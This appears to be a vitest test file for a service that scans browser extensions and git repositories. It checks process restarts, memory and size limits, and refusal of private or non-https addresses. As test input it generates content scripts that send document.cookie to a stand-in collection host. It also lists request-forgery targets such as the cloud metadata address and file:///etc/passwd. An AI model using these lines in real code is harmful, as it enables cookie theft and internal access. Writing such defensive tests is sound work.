import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { readdirSync, readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extensionZip, startSurroundings, type Surroundings } from './surroundings.ts';
import { freePort } from '../freePort.ts';
import { startTestService, until, type TestService } from './testService.ts';

/* What hostile packages, hosts and addresses cannot do. */

let around: Surroundings;
let service: TestService;
let daemonPort: number;
beforeAll(async () => {
  around = await startSurroundings();
  daemonPort = await freePort();
  service = await startTestService(around, {
    RESOLVE: ['clients2.google.com', 'clients2.googleusercontent.com', 'github.com']
      .map((host) => `${host}=127.0.0.1:${around.world.port}`)
      .concat(`git.example.org=127.0.0.1:${daemonPort}`)
      .join(','),
    SCAN_MEMORY_MB: '160',
    MAX_REPOSITORY_MB: '1',
    MAX_UPLOAD_MB: '4',
  });
});
afterAll(async () => {
  await service?.stop();
  await around?.close();
});

const store_url = () => `https://chromewebstore.google.com/detail/sample/${around.chromeId}`;

/** The analysis processes of this service. */
function children(): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map(Number)
    .filter((pid) => {
      try {
        return (
          readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('scan/child.ts') &&
          readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.split(' ')[1] === String(process.pid)
        );
      } catch {
        return false; // ended meanwhile
      }
    });
}

describe('the analysis process', () => {
  it.skipIf(process.platform !== 'linux')('is replaced once when it dies', async () => {
    around.git.commit('owner/dies', 'main', { 'a.js': 'a();\n' });
    const gate = around.world.hold('/owner/dies');
    const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/dies' });
    await gate.arrived;
    const [pid] = children();
    if (pid === undefined) throw new Error('No analysis process is under way.');
    process.kill(pid, 'SIGKILL');
    gate.open();
    expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true, error_message: null });
    expect(children()).toEqual([]);
  });

  it('that needs too much memory is replaced by one that looks at less: the report names what was left', async () => {
    // One expression of two million calls: its syntax tree is far larger than the memory given here.
    const files = {
      'manifest.json': strToU8('{"manifest_version":3,"name":"Fat","version":"1"}'),
      'fat.js': strToU8(`x=[${'f(a,b,[c,d]),'.repeat(600_000)}]`),
      'own.js': strToU8('own();'),
    };
    const fat = await service.upload('fat.zip', zipSync(files));
    expect(await service.ended(fat.body.repo_id)).toMatchObject({
      is_complete: true,
      total_files: 3,
      skipped_files: 1,
    });
    const { body: report } = await service.get(`/repos/${fat.body.repo_id}/report`);
    expect(JSON.stringify(report)).toContain('fat.js');
    expect(['C', 'D', 'F']).toContain(report.grade);
  });

  it('gives a report of many scripts with more data flows than its memory holds', async () => {
    // Each of them by itself is small and plain; 11 MB of these ended the service's analysis with its usual memory, too.
    const scripts = Array.from({ length: 24 }, (_, script) => [
      `s${script}.js`,
      strToU8(
        Array.from(
          { length: 4000 },
          (_, at) => `fetch('https://collect.example.net/${script}/${at}?' + document.cookie);`,
        ).join('\n'),
      ),
    ]);
    const manifest = {
      manifest_version: 3,
      name: 'Many',
      version: '1',
      content_scripts: [{ matches: ['<all_urls>'], js: scripts.map(([name]) => name) }],
    };
    const many = await service.upload(
      'many.zip',
      zipSync({ 'manifest.json': strToU8(JSON.stringify(manifest)), ...Object.fromEntries(scripts) }),
    );
    expect(await service.ended(many.body.repo_id)).toMatchObject({ is_complete: true, risk_grade: 'F' });
    const { body: report } = await service.get(`/repos/${many.body.repo_id}/report`);
    const told = JSON.stringify(report);
    expect(told).toContain('fills the memory');
    expect(told).toContain('input-to-network');
    const { body } = await service.upload('fine.zip', extensionZip('1.0'));
    expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true });
  });
});

describe('stores', () => {
  it.each([
    ['a private address', () => `https://127.0.0.1:${around.world.port}/x`, /not a public address/],
    ['a name of a private address', () => `https://localhost:${around.world.port}/x`, /not a public address/],
    ['the cloud’s own address', () => 'https://169.254.169.254/latest/meta-data', /not a public address/],
    ['plain http', () => 'http://clients2.googleusercontent.com/x', /not plain https/],
    ['a file', () => 'file:///etc/passwd', /not plain https/],
    [
      'an address with a password',
      () => `${['https://a', 'b'].join(':')}@clients2.googleusercontent.com/x`,
      /not plain https/,
    ],
    ['itself', () => `https://clients2.google.com/service/update2/crx?x=id%3D${around.chromeId}`, /without end/],
  ])('are not followed to %s', async (_what, address, sentence) => {
    around.chromeLeadsTo = address();
    const { body } = await service.post('/extensions/submit-url', { store_url: store_url() });
    expect(await service.ended(body.repo_id)).toMatchObject({
      phase: 'Failed',
      error_message: expect.stringMatching(sentence),
    });
    around.chromeLeadsTo = undefined;
  });

  it('cannot send more than is taken', async () => {
    around.offer('9.0', { 'big.txt': randomBytes(6_000_000).toString('base64') });
    const { body } = await service.post('/extensions/submit-url', { store_url: store_url() });
    expect(await service.ended(body.repo_id)).toMatchObject({
      phase: 'Failed',
      error_message: expect.stringMatching(/larger than 4 MB/),
    });
  });
});

describe('git hosts', () => {
  it('cannot send more than is taken', async () => {
    around.git.commit('owner/large', 'main', { 'big.txt': randomBytes(2_000_000).toString('base64') });
    const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/large' });
    expect(await service.ended(body.repo_id)).toMatchObject({
      phase: 'Failed',
      error_message: 'The repository is larger than this service accepts.',
    });
  });

  it('are spoken to by git:// too, through the same checks', async () => {
    around.git.commit('owner/spoken', 'main', { 'a.js': 'a();\n', 'b.js': 'b();\n' });
    const daemon = spawn(
      'git',
      [
        'daemon',
        '--reuseaddr',
        '--export-all',
        `--base-path=${around.git.root}`,
        '--listen=127.0.0.1',
        `--port=${daemonPort}`,
      ],
      { stdio: ['ignore', 'ignore', 'pipe'], detached: true },
    );
    const ended = once(daemon, 'exit');
    try {
      const { body } = await until(async () => {
        const submitted = await service.post('/repos/analyze', { url: 'git://git.example.org/owner/spoken.git' });
        const status = await service.ended(submitted.body.repo_id);
        return status.is_complete ? submitted : undefined;
      }, 'the daemon to answer');
      expect(await service.ended(body.repo_id)).toMatchObject({
        is_complete: true,
        total_files: 2,
        source_type: 'git',
        url: 'git://git.example.org/owner/spoken.git',
      });
      const refused = await service.post('/repos/analyze', { url: `git://localhost:${daemonPort}/owner/spoken.git` });
      expect(await service.ended(refused.body.repo_id)).toMatchObject({
        phase: 'Failed',
        error_message: expect.stringMatching(/not a public address/),
      });
    } finally {
      // 0 would be this very process group.
      if (daemon.pid !== undefined) process.kill(-daemon.pid, 'SIGKILL');
      await ended;
    }
  });

  it('nothing in a repository is followed, run or checked out', async () => {
    around.git.commit('owner/tricky', 'main', {
      '.gitattributes': '* filter=evil export-ignore\n',
      'a.js': 'a();\n',
      '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = https://example.org/x\n',
      'ordner/ünï çödé.txt': 'x\n',
    });
    const { body } = await service.post('/repos/analyze', { url: 'https://github.com/owner/tricky' });
    expect(await service.ended(body.repo_id)).toMatchObject({ is_complete: true, total_files: 4, failed_files: 0 });
  });
});
